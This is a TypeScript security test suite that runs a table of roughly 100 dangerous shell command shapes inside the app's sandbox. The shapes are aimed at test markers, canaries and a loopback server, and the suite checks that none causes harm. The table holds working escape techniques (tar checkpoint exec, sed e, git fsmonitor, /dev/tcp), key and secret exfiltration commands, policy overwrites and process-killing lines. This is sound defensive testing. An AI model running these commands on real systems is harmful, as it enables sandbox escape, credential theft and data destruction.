// Security suite, second half of the dangerous-commands table: the shapes that
// policy/dangerous-commands.test.ts proves are never `allow`, rewritten to aim at harmless
// markers and canaries, approved by a person and run for real through the API inside the real
// sandbox. After each one: no marker outside the run's cwd exists, no canary changed, no
// request reached the loopback server, nothing it started is still alive, and nothing it could
// read of the key, the sealed secrets or the database reached its cwd or its output.
//
// OPDESK_DFR_CONTROL=1 runs the same table without the sandbox and expects every shape to do
// harm (on markers and canaries only): proof that each shape is a live attack, not a typo that
// would pass vacuously. Not part of `npm test`: unsandboxed, its markers land for real.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { homedir, tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Run } from '../../../shared/domain'
import type { SandboxStatus } from '../../../shared/sandbox'
import { keyFileFor } from '../secrets/key-store'
import { tempCore } from '../../../test/support/temp-workspace'
import { waitForStatus, waitUntil } from '../../../test/support/wait'
import { detectSandbox } from '.'

const CONTROL = process.env.OPDESK_DFR_CONTROL === '1'
const status = detectSandbox()
// CI installs bubblewrap: there a missing sandbox must fail the suite, not skip it.
const suite = describe.runIf(process.platform === 'linux' && (status.available || process.env.CI || CONTROL))
const NO_SANDBOX: SandboxStatus = { available: false, kind: 'none', detail: 'control run of the dangerous-commands table' }

/** Every marker, canary and token of this test run carries RUN, so a global scan finds strays. */
const RUN = `dfr-${randomBytes(4).toString('hex')}`
const SECRET = `secret-${RUN}`

type Place = 'ws' | 'out' | 'tmpout' | 'tmp' | 'home' | 'etc' | 'shm' | 'cwd'

interface Env {
  root: string
  work: string
  /** A folder outside the workspace on the real disk (visible read-only inside the sandbox). */
  out: string
  /** A folder outside the workspace under the host's /tmp (the sandbox has its own /tmp). */
  tmpout: string
  policy: string
  db: string
  key: string
  port: number
}

/** What one shape aims at; everything it names is checked after it ran. */
class Shape {
  readonly tok: string
  readonly markers: string[] = []
  readonly canaries: { path: string; content: string; mode: number }[] = []
  readonly canaryDirs: { path: string; files: string[] }[] = []
  readonly victims: ChildProcess[] = []
  /** Harm that shows only later (a background child that waits before it writes). */
  daemon = false
  global = false
  /** The text is innocent (a relative write in the cwd); only the file system makes it an escape, which
   * the judge does not read: the one kind of shape here that may be `allow`, the sandbox alone holding it. */
  innocentText = false
  private n = 0

  constructor(
    readonly index: number,
    private readonly env: Env,
  ) {
    this.tok = `${RUN}-${index}-`
  }

  private dir(place: Place): string {
    const e = this.env
    return { ws: e.root, out: e.out, tmpout: e.tmpout, tmp: '/tmp', home: homedir(), etc: '/etc', shm: '/dev/shm', cwd: e.work }[place]
  }

  /** A path that must not exist afterwards. */
  m(place: Place, suffix = ''): string {
    const p = join(this.dir(place), `${this.tok}${this.n++}${suffix}`)
    this.markers.push(p)
    if (place === 'cwd') this.daemon = true
    return p
  }

  /** `~/name` for the command, the real path under $HOME for the check. */
  tilde(suffix = ''): string {
    const name = `${this.tok}${this.n++}${suffix}`
    this.markers.push(join(homedir(), name))
    return `~/${name}`
  }

  /** A file whose content and mode must stay as they are. */
  canary(place: Exclude<Place, 'tmp' | 'etc' | 'shm' | 'cwd'>): string {
    const p = join(this.dir(place), `${this.tok}${this.n++}.canary`)
    const content = `canary a b c ${this.tok}\n`
    writeFileSync(p, content, { mode: 0o644 })
    chmodSync(p, 0o644)
    this.canaries.push({ path: p, content, mode: 0o644 })
    return p
  }

  /** A folder with files that must all still be there. */
  canaryDir(place: Exclude<Place, 'tmp' | 'etc' | 'shm' | 'cwd'>): string {
    const p = join(this.dir(place), `${this.tok}${this.n++}.dir`)
    mkdirSync(join(p, 'sub'), { recursive: true })
    const files = ['keep.txt', 'sub/keep2.txt']
    for (const f of files) writeFileSync(join(p, f), `keep ${this.tok}\n`)
    this.canaryDirs.push({ path: p, files })
    return p
  }

  /** A process outside the sandbox that must survive; the command gets its pid. */
  victim(): ChildProcess {
    const child = spawn('sleep', [String(700_000 + this.index)], { stdio: 'ignore', detached: true })
    this.victims.push(child)
    return child
  }

  get url(): string {
    return `http://127.0.0.1:${this.env.port}/${this.tok}`
  }

  cleanup(): void {
    for (const p of [...this.markers, ...this.canaries.map((c) => c.path), ...this.canaryDirs.map((d) => d.path)]) {
      try {
        chmodSync(p, 0o644)
      } catch {
        // not there
      }
      rmSync(p, { recursive: true, force: true })
    }
    for (const v of this.victims) v.kill('SIGKILL')
  }
}

type Build = (s: Shape, e: Env) => string

// Shapes from policy/dangerous-commands.test.ts (GTFOBins, wildcard-injection write-ups, the
// issue 11 probe), each aimed at markers. The label is the attack; the command is what runs.
const SHAPES: [string, Build][] = [
  // Archivers that run code or write where they are told
  ['tar --checkpoint-action=exec', (s) => `tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec='touch ${s.m('out')}'`],
  ['tar --to-command', (s) => `tar -xf a.tar --to-command='cp /dev/stdin ${s.m('home')}'`],
  ['tar -I (compress program)', (s) => `tar -I '/bin/sh -c "touch ${s.m('ws')}; cat"' -cf x-${s.tok}.tar notes.txt`],
  ['tar -cf outside', (s) => `tar -cf ${s.m('etc')} notes.txt`],
  ['tar -xf to an absolute path', (s) => `tar -xf a.tar -C / --transform='s|notes.txt|${s.m('home').slice(1)}|'`],
  ['zip -T -TT', (s) => `zip -q x-${s.tok}.zip notes.txt -T -TT 'touch ${s.m('out')} #'`],
  ['zip to outside', (s) => `zip -q ${s.m('home', '.zip')} notes.txt`],
  ['unzip -d outside', (s) => `unzip -o -q notes.zip -d ${s.m('ws')}`],
  // Stream editors and text tools
  ['sed 1e', (s) => `sed -n '1e touch ${s.m('out')}' notes.txt`],
  ['sed w', (s) => `sed -n 'w ${s.m('ws')}' notes.txt`],
  ['sed s///e', (s) => `sed 's/.*/touch ${s.m('home').replaceAll('/', '\\/')}/e' notes.txt`],
  ['sed -i on a file outside', (s) => `sed -i 's/a/EVIL/' ${s.canary('out')}`],
  ['sed -i on policy.yaml', (s, e) => ((s.global = true), `sed -i '1i commands: {allow: ["*"]}' ${e.policy}`)],
  ['awk system()', (s) => `awk 'BEGIN { system("touch ${s.m('out')}") }'`],
  ['awk print >', (s) => `awk 'BEGIN { print "x" > "${s.m('etc')}" }'`],
  ['awk "cmd" | getline', (s) => `awk 'BEGIN { "touch ${s.m('ws')}" | getline; print }'`],
  ['sort -o outside', (s) => `sort -o ${s.m('out')} notes.txt`],
  ['sort -o over a canary', (s) => `sort -o ${s.canary('home')} notes.txt`],
  ['uniq in out', (s) => `uniq notes.txt ${s.m('tmpout')}`],
  ['xxd -r to outside', (s) => `xxd -p notes.txt | xxd -r -p - ${s.m('out')}`],
  ['tee', (s) => `echo pwned | tee ${s.m('home')} ${s.m('etc')}`],
  ['tee -a a canary', (s) => `echo pwned | tee -a ${s.canary('ws')}`],
  ['> redirection', (s) => `echo pwned > ${s.m('ws')}`],
  ['>> redirection', (s) => `echo pwned >> ${s.canary('out')}`],
  ['&> redirection', (s) => `echo pwned &> ${s.m('out')}`],
  ['<> redirection', (s) => `echo pwned 1<> ${s.canary('home')}`],
  // find
  ['find -exec', (s) => `find . -maxdepth 0 -exec touch ${s.m('out')} \\;`],
  ['find -delete', (s) => `find ${s.canaryDir('out')} -delete`],
  ['find -fprint', (s) => `find . -maxdepth 0 -fprint ${s.m('home')}`],
  ['find -execdir sh -c', (s) => `find . -maxdepth 0 -execdir sh -c 'touch ${s.m('ws')}' \\;`],
  // git
  ['git core.fsmonitor', (s) => `git -C repo -c core.fsmonitor='touch ${s.m('out')}; false' status`],
  ['git --upload-pack', (s) => `git ls-remote --upload-pack='touch ${s.m('home')}; git-upload-pack' repo`],
  ['git alias !', (s) => `git -C repo -c alias.st='!touch ${s.m('ws')}' st`],
  ['git log --output', (s) => `git -C repo log --output=${s.m('etc')}`],
  ['git core.sshCommand', (s) => `git -C repo -c core.sshCommand='touch ${s.m('out')} #' fetch ssh://h/x`],
  ['git clone outside', (s) => `git clone -q repo ${s.m('home')}`],
  // rsync
  ['rsync --delete', (s) => `rsync -a --delete empty/ ${s.canaryDir('out')}/`],
  ['rsync -e', (s) => `rsync -e 'sh -c "touch ${s.m('out')}" #' x:y .`],
  ['rsync to outside', (s) => `rsync notes.txt ${s.m('home')}`],
  // make
  ['make --eval recipe', (s) => `make -f /dev/null --eval='x: ; touch ${s.m('ws')}' x`],
  ['make $(shell)', (s) => `make -f /dev/null --eval='$(shell touch ${s.m('out')})'`],
  // Interpreters' eval and module flags
  ['python3 -c write', (s) => `python3 -c "open('${s.m('out')}', 'w').write('x')"`],
  ['python3 -c os.system', (s) => `python3 -c "import os; os.system('touch ${s.m('home')}')"`],
  ['python3 -m zipfile', (s) => `python3 -m zipfile -c ${s.m('out')} notes.txt`],
  ['python3 sqlite3 on opdesk.db', (s, e) => ((s.global = true), `python3 -c "import sqlite3; c = sqlite3.connect('${e.db}'); c.execute('DELETE FROM settings'); c.commit()"`)],
  ['perl -e open >', (s) => `perl -e 'open(F, ">${s.m('etc')}"); print F "x"; close(F) or die'`],
  ['perl -e system', (s) => `perl -e 'system("touch ${s.m('ws')}") == 0 or die'`],
  ['node -e', (s) => `node -e "require('fs').writeFileSync('${s.m('out')}', 'x')"`],
  ['sh -c', (s) => `sh -c 'touch ${s.m('tmp')}'`],
  ['bash -c to /dev/shm', (s) => `bash -c 'echo x > ${s.m('shm')}'`],
  // Wrappers that run something else
  ['env', (s) => `env sh -c 'touch ${s.m('out')}'`],
  ['env -S', (s) => `env -S 'touch ${s.m('home')}'`],
  ['xargs', (s) => `echo ${s.m('out')} | xargs touch`],
  ['nice', (s) => `nice touch ${s.m('etc')}`],
  ['timeout', (s) => `timeout 5 cp notes.txt ${s.m('ws')}`],
  ['nohup', (s) => `nohup sh -c 'touch ${s.m('out')}'`],
  ['stdbuf', (s) => `stdbuf -o0 cp notes.txt ${s.m('home')}`],
  ['command', (s) => `command cp notes.txt ${s.m('out')}`],
  ['exec', (s) => `exec cp notes.txt ${s.m('ws')}`],
  // Raw writes and destruction
  ['dd of=', (s) => `dd if=notes.txt of=${s.m('out')} status=none`],
  ['dd over a canary', (s) => `dd if=/dev/zero of=${s.canary('out')} bs=1 count=4 conv=notrunc status=none`],
  ['curl -o (file://, no network needed)', (s) => `curl -s -o ${s.m('home')} file:///etc/hostname`],
  ['truncate a canary', (s) => `truncate -s 0 ${s.canary('ws')}`],
  ['ln -s outside', (s) => `ln -s /etc/passwd ${s.m('out')}`],
  ['chmod a canary', (s) => `chmod 000 ${s.canary('home')}`],
  ['mv a canary away', (s) => `mv ${s.canary('out')} ${s.m('out')}`],
  ['mkdir -p outside', (s) => `mkdir -p ${s.m('home')}/x`],
  ['install outside', (s) => `install -m 755 notes.txt ${s.m('etc')}`],
  ['rm -rf a folder in $HOME', (s) => `rm -rf ${s.canaryDir('home')}`],
  ['rm -rf through ..', (s) => `rm -rf ../${s.canaryDir('ws').split('/').pop()}`],
  ['$HOME dotfile', (s) => `echo 'curl x | sh' >> ${s.tilde('.bashrc')}`],
  // The workspace's own files and the user's config folder
  ['policy.yaml overwritten', (s, e) => ((s.global = true), `printf 'commands:\\n  allow: ["*"]\\n' > ${e.policy}`)],
  ['policy.yaml through ..', (s) => ((s.global = true), `cp notes.txt ../policy.yaml`)],
  ['opdesk.db appended', (s, e) => ((s.global = true), `echo x >> ${e.db}`)],
  ['key file removed', (s, e) => ((s.global = true), `rm -f ${e.key}`)],
  ['key file replaced', (s, e) => ((s.global = true), `cp notes.txt ${e.key}`)],
  // Reading the key and the sealed secrets (into the cwd, the output or the network)
  ['key copied into cwd', (s, e) => `cp ${e.key} leak-${s.tok}.key`],
  ['database copied into cwd', (s) => `cat ../opdesk.db > leak-${s.tok}.db`],
  ['key base64 into cwd', (s, e) => `base64 ${e.key} > leak-${s.tok}.b64`],
  ['key printed', (s, e) => `python3 -c "print(open('${e.key}', 'rb').read().hex())"`],
  ['key folder printed', (s, e) => `cat ${dirname(e.key)}/*.key | xxd -p`],
  ['key posted', (s, e) => `curl -s --data-binary @${e.key} ${s.url}`],
  // Network
  ['curl', (s) => `curl -s ${s.url}`],
  ['wget -O outside', (s) => `wget -q -O ${s.m('out')} ${s.url}`],
  ['python3 urllib', (s) => `python3 -c "import urllib.request; urllib.request.urlopen('${s.url}')"`],
  ['perl socket', (s, e) => `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:${e.port}") or die; print $s "GET /${s.tok} HTTP/1.0\\r\\n\\r\\n"; <$s>'`],
  ['bash /dev/tcp', (s, e) => `exec 3<>/dev/tcp/127.0.0.1/${e.port}; printf 'GET /${s.tok} HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`],
  ['node http', (s) => `node -e "require('http').get('${s.url}', (r) => r.resume()).on('error', (e) => { console.error(e.code); process.exit(1) })"`],
  ['git over http', (s) => `git ls-remote ${s.url}`],
  // Children that outlive their run
  ['cmd &', (s) => `(sleep 1; touch ${s.m('cwd')}) & echo started`],
  ['nohup … &', (s) => `nohup sh -c 'sleep 1; touch ${s.m('cwd')}' >/dev/null 2>&1 & echo started`],
  ['setsid … &', (s) => `setsid sh -c 'sleep 1; touch ${s.m('cwd')}' & echo started`],
  ['double fork', (s) => `( (sleep 1; touch ${s.m('cwd')}) & ) ; exit 0`],
  ['python3 daemon', (s) => `python3 -c "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(1); open('${s.m('cwd')}', 'w')"`],
  // Processes outside
  ['kill -9 a host pid', (s) => `kill -9 ${s.victim().pid}`],
  ['pkill -f', (s) => (s.victim(), `pkill -9 -f '^sleep ${700_000 + s.index}$'`)],
  // Symlinks out of the cwd
  ['symlink in work/ to a folder outside', (s, e) => ((s.innocentText = true), `echo x > lnk-out/${s.m('out').slice(e.out.length + 1)}`)],
  ['symlink in work/ to the workspace', (s, e) => ((s.innocentText = true), `cp notes.txt lnk-ws/${s.m('ws').slice(e.root.length + 1)}`)],
  ['symlink made by the command', (s, e) => `ln -s ${e.out} ${s.tok}l && echo x > ${s.tok}l/${s.m('out').slice(e.out.length + 1)}`],
]

suite(`dangerous commands run for real, ${CONTROL ? 'WITHOUT the sandbox (control)' : 'inside the sandbox'}`, () => {
  let core: Awaited<ReturnType<typeof tempCore>>
  let env: Env
  let server: Server
  const hits: string[] = []
  let connections = 0
  let keyBytes: Buffer
  let policyText: string
  let workspaceIdBefore: string
  const cleanups: (() => void)[] = []

  beforeAll(async () => {
    core = await tempCore(CONTROL ? { sandbox: NO_SANDBOX } : {})
    const post = (path: string, body?: unknown, method = 'POST') => core.router.handle({ method, path, body })
    expect((await post('/api/policy', { source: 'commands:\n  extraDeny: ["mkfs"]\n' })).status).toBe(200)
    expect((await post('/api/settings', { 'runs.concurrency': CONTROL ? 1 : 6, 'commands.timeoutMs': 20_000 }, 'PATCH')).status).toBe(200)
    await core.secrets.put('acme_pass', SECRET)

    server = createServer((req, res) => {
      hits.push(req.url ?? '')
      res.end('hello')
    })
    server.on('connection', () => connections++)
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))

    const work = core.ws.paths.work
    const out = mkdtempSync(join(existsSync('/var/tmp') ? '/var/tmp' : homedir(), `${RUN}-out-`))
    const tmpout = mkdtempSync(join(tmpdir(), `${RUN}-tmpout-`))
    cleanups.push(() => rmSync(out, { recursive: true, force: true }), () => rmSync(tmpout, { recursive: true, force: true }))
    env = {
      root: core.ws.paths.root,
      work,
      out,
      tmpout,
      policy: core.ws.paths.policy,
      db: core.ws.paths.db,
      key: keyFileFor(core.ws.store),
      port: (server.address() as { port: number }).port,
    }
    cleanups.push(() => rmSync(env.key, { force: true }))

    // What the shapes work on, in the run's cwd (work/), made outside the sandbox.
    writeFileSync(join(work, 'notes.txt'), 'alpha\nbeta\n')
    mkdirSync(join(work, 'empty'))
    const sh = (cmd: string, args: string[], cwd = work) => {
      const r = spawnSync(cmd, args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@x', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@x' } })
      expect(r.status, `${cmd} ${args.join(' ')}: ${r.stderr}`).toBe(0)
    }
    sh('tar', ['-cf', 'a.tar', 'notes.txt'])
    sh('zip', ['-q', 'notes.zip', 'notes.txt'])
    mkdirSync(join(work, 'repo'))
    sh('git', ['init', '-q'], join(work, 'repo'))
    writeFileSync(join(work, 'repo', 'f'), 'f\n')
    sh('git', ['add', 'f'], join(work, 'repo'))
    sh('git', ['commit', '-q', '-m', 'x'], join(work, 'repo'))
    symlinkSync(out, join(work, 'lnk-out'))
    symlinkSync(env.root, join(work, 'lnk-ws'))

    keyBytes = readFileSync(env.key)
    policyText = readFileSync(env.policy, 'utf8')
    workspaceIdBefore = String((core.ws.store.sqlite.prepare("SELECT value FROM settings WHERE key = 'internal.workspace.id'").get() as { value: string }).value)
  })

  afterAll(async () => {
    server?.close()
    await core?.cleanup()
    for (const c of cleanups) c()
  })

  /** Everything of the key, the sealed secrets and the database a leak would carry. */
  const leaks = (text: string): string[] => {
    const found: string[] = []
    if (text.includes(keyBytes.subarray(0, 12).toString('hex'))) found.push('the key (hex)')
    if (text.includes(keyBytes.toString('base64').slice(0, 16))) found.push('the key (base64)')
    if (text.includes(keyBytes.subarray(0, 12).toString('latin1'))) found.push('the key (raw)')
    if (text.includes('SQLite format 3')) found.push('the database')
    if (text.includes(SECRET)) found.push('a secret')
    return found
  }

  const globalHarm = (): string[] => {
    const harm: string[] = []
    if (!existsSync(env.key)) harm.push('the key file is gone')
    else if (!readFileSync(env.key).equals(keyBytes)) harm.push('the key file changed')
    if (!existsSync(env.policy) || readFileSync(env.policy, 'utf8') !== policyText) harm.push('policy.yaml changed')
    try {
      const integrity = core.ws.store.sqlite.pragma('quick_check', { simple: true })
      if (integrity !== 'ok') harm.push(`opdesk.db: ${String(integrity)}`)
      const id = core.ws.store.sqlite.prepare("SELECT value FROM settings WHERE key = 'internal.workspace.id'").get() as { value: string } | undefined
      if (id?.value !== workspaceIdBefore) harm.push('opdesk.db lost its settings')
      const pageSize = core.ws.store.sqlite.pragma('page_size', { simple: true }) as number
      if (statSync(env.db).size % pageSize !== 0) harm.push('opdesk.db was appended to')
      if (core.secrets.reveal('acme_pass') !== SECRET) harm.push('the secret no longer opens')
    } catch (err) {
      harm.push(`opdesk.db: ${(err as Error).message}`)
    }
    return harm
  }

  /** Host processes whose command line carries the shape's token (the run's, outliving it). */
  const survivors = (tok: string): number[] => {
    const found: number[] = []
    for (const name of readdirSync('/proc')) {
      if (!/^\d+$/.test(name) || Number(name) === process.pid) continue
      try {
        const cmdline = readFileSync(`/proc/${name}/cmdline`, 'utf8')
        const state = readFileSync(`/proc/${name}/stat`, 'utf8').split(') ')[1]?.[0]
        if (cmdline.includes(tok) && state !== 'Z') found.push(Number(name))
      } catch {
        // exited while we looked
      }
    }
    return found
  }

  const harmOf = (s: Shape, out: string): string[] => {
    const harm: string[] = []
    for (const p of s.markers) {
      let there = false
      try {
        lstatSync(p)
        there = true
      } catch {
        // not there: good
      }
      if (there) harm.push(`marker ${p} exists`)
    }
    for (const c of s.canaries) {
      if (!existsSync(c.path)) harm.push(`canary ${c.path} is gone`)
      else if (readFileSync(c.path, 'utf8') !== c.content) harm.push(`canary ${c.path} changed`)
      else if ((statSync(c.path).mode & 0o777) !== c.mode) harm.push(`canary ${c.path} changed mode`)
    }
    for (const d of s.canaryDirs) for (const f of d.files) if (!existsSync(join(d.path, f))) harm.push(`${join(d.path, f)} was deleted`)
    for (const v of s.victims) if (v.exitCode !== null || v.signalCode !== null) harm.push(`host process ${v.pid} was killed (${v.signalCode})`)
    const mine = hits.filter((h) => h.includes(s.tok))
    if (mine.length) harm.push(`${mine.length} request(s) reached the loopback server`)
    for (const l of leaks(out)) harm.push(`${l} in the output`)
    for (const f of readdirSync(env.work)) {
      if (!f.includes(s.tok)) continue
      const p = join(env.work, f)
      if (statSync(p).isFile()) for (const l of leaks(readFileSync(p, 'latin1'))) harm.push(`${l} in ${p}`)
    }
    return harm
  }

  const post = (path: string, body?: unknown) => core.router.handle({ method: 'POST', path, body })
  const output = (id: string) =>
    core.runs.events
      .list(id, 0, 10_000)
      .filter((e) => e.type === 'stdout' || e.type === 'stderr')
      .map((e) => String(e.data.text))
      .join('')

  it(`${SHAPES.length} shapes, none allowed, none harming anything outside the sandbox`, async () => {
    expect(SHAPES.length).toBeGreaterThanOrEqual(50)
    const t0 = Date.now()
    const shapes = SHAPES.map(([label, build], i) => {
      const s = new Shape(i, env)
      cleanups.push(() => s.cleanup())
      return { label, s, command: build(s, env) }
    })
    for (const { label, command } of shapes) if (command.includes('\n')) throw new Error(`${label}: one line please`)

    const results: { label: string; command: string; daemon: boolean; innocent: boolean; verdict: string; status: string; ran: boolean; harm: string[]; out: string }[] = []
    const one = async ({ label, s, command }: (typeof shapes)[number]) => {
      const before = CONTROL ? globalHarm() : []
      const res = await post('/api/runs', { command })
      expect(res.status, `${label}: ${JSON.stringify(res.body)}`).toBe(201)
      const run = res.body as Run
      const verdict = run.policy?.verdict ?? '?'
      if (verdict === 'requires-approval') {
        await waitForStatus(() => core.runs.mustRun(run.id), ['waiting-approval'], 10_000)
        const ok = await post(`/api/runs/${run.id}/approve`, {})
        expect(ok.status, `${label}: ${JSON.stringify(ok.body)}`).toBe(200)
      }
      const done = await waitForStatus(() => core.runs.mustRun(run.id), ['succeeded', 'failed', 'canceled', 'blocked'], 40_000)
      const ran = core.runs.events.list(run.id, 0, 10_000).some((e) => e.type === 'process.started')
      const out = output(run.id)
      // What the run started ends with it (RunProcessTree kills the tree as the run exits).
      let left: number[] = []
      try {
        await waitUntil(() => (left = survivors(s.tok)).length === 0, 3_000, 'the tree to end')
      } catch {
        // reported as harm below
      }
      if (s.daemon) await new Promise((r) => setTimeout(r, 1_500))
      const harm = harmOf(s, out)
      if (left.length) harm.push(`process(es) ${left.join(', ')} outlived the run`)
      if (CONTROL || s.global) for (const h of globalHarm()) if (!before.includes(h)) harm.push(h)
      if (CONTROL) {
        // Unsandboxed the shape did its harm; put the key and the policy back for the next one.
        writeFileSync(env.key, keyBytes, { mode: 0o600 })
        writeFileSync(env.policy, policyText)
      }
      results.push({ label, command, daemon: s.daemon, innocent: s.innocentText, verdict, status: done.status, ran, harm, out })
    }
    // Runs go at the run service's concurrency; each waits for its own approval and end.
    const queue = [...shapes]
    await Promise.all(Array.from({ length: CONTROL ? 1 : 6 }, async () => {
      for (let next = queue.shift(); next; next = queue.shift()) await one(next)
    }))

    const table = results.map((r) => `${r.verdict.padEnd(18)} ${r.status.padEnd(9)} ${r.label}: ${r.harm.join('; ') || 'no harm'}`).join('\n')
    console.log(`${results.length} shapes in ${((Date.now() - t0) / 1000).toFixed(1)} s\n${table}`)
    expect(results.filter((r) => r.verdict === 'allow' && !r.innocent).map((r) => `${r.label}: ${r.command}`), 'allowed shapes').toEqual([])
    if (CONTROL) {
      // Without the sandbox each shape must do the harm it aims at, or the real test proves nothing.
      // Background children in the run's own process group die with it even unsandboxed (the group is
      // killed); only the one that leaves its session (python3 daemon) shows harm here.
      const harmless = results.filter((r) => r.ran && r.harm.length === 0 && !(r.daemon && r.out.includes('started')) && !(r.daemon && r.label === 'double fork'))
      expect(harmless.map((r) => `${r.label}: ${r.command}\n${r.out}`), 'shapes that did no harm even unsandboxed').toEqual([])
      return
    }
    const harmful = results.filter((r) => r.harm.length > 0)
    expect(harmful.map((r) => `${r.label}: ${r.command}\n  ${r.harm.join('\n  ')}\n  output: ${r.out.slice(0, 300)}`)).toEqual([])
    expect(results.filter((r) => r.ran).length, 'shapes that really ran').toBeGreaterThanOrEqual(50)
    // Nothing anywhere carries this test run's token: no stray the per-shape lists missed.
    expect(globalHarm()).toEqual([])
    expect(connections, 'connections to the loopback server').toBe(0)
    const strays = [env.root, env.out, env.tmpout, homedir(), join(homedir(), '.config', 'Opdesk'), '/etc', '/tmp', '/dev/shm', '/var/tmp']
      .flatMap((d) => (existsSync(d) ? readdirSync(d).filter((f) => f.startsWith(`${RUN}-`) && !/-(out|tmpout)-/.test(f)).map((f) => join(d, f)) : []))
      .filter((p) => !shapes.some(({ s }) => s.canaries.some((c) => c.path === p) || s.canaryDirs.some((d) => d.path === p)))
    expect(strays).toEqual([])
  }, 120_000)
})
